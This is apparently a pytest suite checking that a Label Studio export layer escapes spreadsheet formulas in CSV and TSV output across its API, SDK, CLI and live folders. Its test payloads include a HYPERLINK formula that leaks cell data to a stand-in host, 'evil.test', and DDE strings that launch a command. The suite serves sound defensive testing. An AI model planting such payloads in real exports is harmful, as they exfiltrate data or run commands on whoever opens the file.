"""CSV and TSV exports never hand a spreadsheet a live formula (OWASP's CSV injection advice):
text cells starting with = + - @ tab or CR get a leading "'", by default, on every way out
(direct export, snapshots and their conversions, the SDK, the CLI, live folders);
`escape_formulas=false` gives Label Studio's bytes back."""

import csv
import io
import subprocess
import sys

import pytest
from label_studio_sdk import LabelStudio

from datahelp import wait_for
from exporthelp import TEXT_CONFIG, Project

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
HARMLESS = ["-3", "+1.5e3", "plain text", "a=b", ""]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def number(text):
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


@pytest.fixture(scope="module")
def project(live, tmp_path_factory):
    p = Project(live, tmp_path_factory.mktemp("formulas"), TEXT_CONFIG, "formulas")
    items = [{"text": payload, "=key": payload, "count": -3} for payload in PAYLOADS]
    items += [{"text": text, "=key": "x", "count": 7} for text in HARMLESS]
    ids = p.add_tasks(items)
    for task_id, payload in zip(ids, PAYLOADS):
        p.annotate(task_id, [{"type": "textarea", "from_name": "note", "to_name": "text",
                              "value": {"text": [payload]}}])
    for task_id in ids[len(PAYLOADS):]:
        p.annotate(task_id, [{"type": "choices", "from_name": "sentiment", "to_name": "text",
                              "value": {"choices": ["Pos"]}}])
    return p


def cells(data, fmt):
    rows = list(csv.reader(io.StringIO(data.decode("utf8"), newline=""),
                           delimiter="\t" if fmt == "TSV" else ","))
    return rows[0], rows[1:]


def assert_neutralized(data, fmt):
    header, rows = cells(data, fmt)
    assert "'=key" in header and "=key" not in header
    for cell in header + [c for row in rows for c in row]:
        assert not cell.startswith(DANGEROUS_START) or number(cell), (fmt, cell)
    column = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    texts = column["text"]
    for payload in PAYLOADS:
        assert "'" + payload in texts, payload
        assert "'" + payload in column["note"] and "'" + payload in column["'=key"]
    for text in HARMLESS:
        assert text in texts  # numbers in text, and safe text, are left as they are
    assert set(column["count"]) == {"-3", "7"}


@pytest.mark.parametrize("fmt", ["CSV", "TSV"])
def test_csv_and_tsv_exports_neutralize_formulas(project, fmt):
    p = project
    escaped = p.export(fmt, download_all_tasks="true").content
    assert_neutralized(escaped, fmt)
    assert p.export(fmt, download_all_tasks="true", escape_formulas="true").content == escaped

    # the option off: Label Studio's own bytes (its converter on the same tasks)
    raw = p.export(fmt, download_all_tasks="true", escape_formulas="false").content
    assert raw == (p.oracle(fmt, download_all_tasks="true") / "result.csv").read_bytes()
    header, rows = cells(raw, fmt)
    texts = [row[header.index("text")] for row in rows]
    assert set(PAYLOADS) <= set(texts) and "=key" in header
    r = p.api.get(f"/api/projects/{p.id}/export",
                  params={"exportType": fmt, "escape_formulas": "maybe"})
    assert r.status_code == 400 and "escape_formulas" in r.text


def test_snapshots_conversions_and_the_sdk_neutralize_formulas(project, live):
    p = project
    api = p.api
    snapshot = api.post(f"/api/projects/{p.id}/exports", json={"title": "s"}).json()
    base = f"/api/projects/{p.id}/exports/{snapshot['id']}"
    r = api.post(f"{base}/convert", json={"export_type": "CSV"})
    assert r.status_code == 200, r.text
    assert_neutralized(api.get(f"{base}/download", params={"exportType": "CSV"}).content, "CSV")
    # converted on the fly at download (TSV), then as stored
    for _ in range(2):
        assert_neutralized(api.get(f"{base}/download", params={"exportType": "TSV"}).content,
                           "TSV")
    oracle = (p.oracle("CSV") / "result.csv").read_bytes()
    raw = api.get(f"{base}/download", params={"exportType": "CSV", "escape_formulas": "false"})
    assert raw.status_code == 200 and raw.content == oracle
    # the unescaped one was a temporary file, removed once sent (by the server's thread, just
    # after the client has the last byte)
    wait_for(lambda: not [f for f in (live.settings.data_dir / "export").iterdir()
                          if f.name.startswith(".export-")], 10)

    # a conversion asked for without escaping is stored so, and served escaped by default
    second = api.post(f"/api/projects/{p.id}/exports", json={"title": "raw"}).json()
    base = f"/api/projects/{p.id}/exports/{second['id']}"
    api.post(f"{base}/convert", json={"export_type": "CSV", "escape_formulas": False})
    assert api.get(f"{base}/download", params={"exportType": "CSV",
                                               "escape_formulas": "0"}).content == oracle
    assert_neutralized(api.get(f"{base}/download", params={"exportType": "CSV"}).content, "CSV")

    ls = LabelStudio(base_url=live.url, api_key=live.token)
    data = b"".join(ls.projects.exports.download_sync(p.id, export_type="CSV",
                                                      download_all_tasks=False))
    assert_neutralized(data, "CSV")
    data = b"".join(ls.projects.exports.download(
        p.id, second["id"], export_type="CSV",
        request_options={"additional_query_parameters": {"escape_formulas": "false"}}))
    assert data == oracle


def test_cli_export_and_live_folder_neutralize_formulas(make_live, tmp_path):
    server = make_live(local_files_root=tmp_path)
    (tmp_path / "work").mkdir()
    p = Project(server, tmp_path / "work", TEXT_CONFIG, "formulas")
    for task_id in p.add_tasks([{"text": payload} for payload in PAYLOADS]):
        p.annotate(task_id, [])
    unescaped = p.export("CSV", escape_formulas="false").content
    escaped = p.export("CSV").content
    assert_texts_escaped(escaped)

    folder = tmp_path / "live"
    r = p.api.put(f"/api/projects/{p.id}/live-export", json={"path": str(folder),
                                                              "format": "CSV"})
    assert r.status_code == 200 and r.json()["escape_formulas"] is True
    server.app.exports.live.flush()
    assert_texts_escaped((folder / "result.csv").read_bytes())
    r = p.api.put(f"/api/projects/{p.id}/live-export", json={
        "path": str(folder), "format": "CSV", "escape_formulas": False})
    assert r.json()["escape_formulas"] is False
    server.app.exports.live.flush()
    assert (folder / "result.csv").read_bytes() == unescaped

    def cli(*extra):  # the server holds the store: the CLI exports from it read-only
        target = tmp_path / f"out{len(extra)}.csv"
        done = subprocess.run([sys.executable, "-m", "desktop", "export", str(p.id), "--format",
                               "CSV", "--to", str(target), "--quiet", "--data-dir",
                               str(server.settings.data_dir), *extra],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        return target.read_bytes()

    assert_texts_escaped(cli())
    assert cli("--no-formula-escape") == unescaped


def assert_texts_escaped(data):
    header, rows = cells(data, "CSV")
    assert sorted(row[header.index("text")] for row in rows) == sorted(
        "'" + payload for payload in PAYLOADS)
    assert all(not c.startswith(DANGEROUS_START) for row in rows for c in row)


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("-3\n", "'-3\n"), ("-\u0663", "'-\u0663"),  # not ASCII
    ("-3", "-3"), ("+1.5e3", "+1.5e3"), ("-.5e-3", "-.5e-3"), ("1-1", "1-1"), (" =1", " =1"),
    ("", ""), (-3, -3), (1.5, 1.5), (None, None), (True, True)])
def test_which_cells_are_neutralized(value, written):
    from desktop.data_export.formats.csv_export import neutralize
    assert neutralize(value) == written
